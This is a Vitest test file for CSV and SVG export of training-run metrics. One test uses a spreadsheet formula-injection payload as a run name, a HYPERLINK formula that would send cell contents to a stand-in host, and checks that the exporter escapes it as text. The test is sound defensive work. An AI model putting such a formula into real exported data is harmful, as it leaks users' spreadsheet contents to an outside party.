import { describe, expect, it } from 'vitest';
import type { RunInfo } from '../studio/api.ts';
import { chartSvg, metricsCsv } from './export.ts';

const run = { id: 'r1', name: 'ant, "fast" → goal', task: 'ant/run-direction', variant: null, seed: 2, parentRunId: 'p' } as RunInfo;

describe('exports', () => {
  it('writes the shown runs’ rows as one CSV table, quoting where needed', () => {
    const csv = metricsCsv([
      {
        run,
        rows: [
          { step: 1000, time: 1.5, episodes: 3, episodeReturn: -2.5, alpha: 0.2 },
          { step: 2000, time: 3, episodes: 6 },
        ],
      },
    ]);
    const lines = csv.trimEnd().split('\n');
    expect(lines[0]).toBe(
      'run_id,name,task,variant,seed,parent_run_id,step,time,episodes,episodeReturn,episodeLength,entropy,alpha,qLoss,policyLoss,envStepsPerSec,updatesPerSec',
    );
    expect(lines[1]).toBe('r1,"ant, ""fast"" → goal",ant/run-direction,,2,p,1000,1.5,3,-2.5,,,0.2,,,,');
    expect(lines[2]).toBe('r1,"ant, ""fast"" → goal",ant/run-direction,,2,p,2000,3,6,,,,,,,,');
    expect(lines).toHaveLength(3);
    // A name a spreadsheet would run as a formula is written as text; a negative return stays a number.
    const evil = metricsCsv([
      { run: { ...run, name: '=HYPERLINK("http://x.example/?"&A1,"open")' }, rows: [{ step: 1, time: 0, episodes: 0, episodeReturn: -3 }] },
    ]);
    expect(evil.trimEnd().split('\n')[1]).toBe(
      `r1,"'=HYPERLINK(""http://x.example/?""&A1,""open"")",ant/run-direction,,2,p,1,0,0,-3,,,,,,,`,
    );
  });

  it('draws a chart’s runs and seed groups (a band) as a standalone SVG', () => {
    const svg = chartSvg(
      [
        {
          label: 'one run',
          table: [
            [0, 100],
            [1, 2],
          ],
        },
        {
          label: 'fine-tuned · seeds 1, 2',
          table: [
            [0, 100],
            [1, 3],
            [2, 4],
            [0, 2],
          ],
        },
      ],
      'Episode return',
      'return',
    );
    expect(svg).toMatch(/^<svg xmlns/);
    expect(svg.match(/<polyline/g)).toHaveLength(2);
    expect(svg.match(/<polygon/g)).toHaveLength(1);
    expect(svg).toContain('fine-tuned · seeds 1, 2 (mean, band min–max)');
  });
});
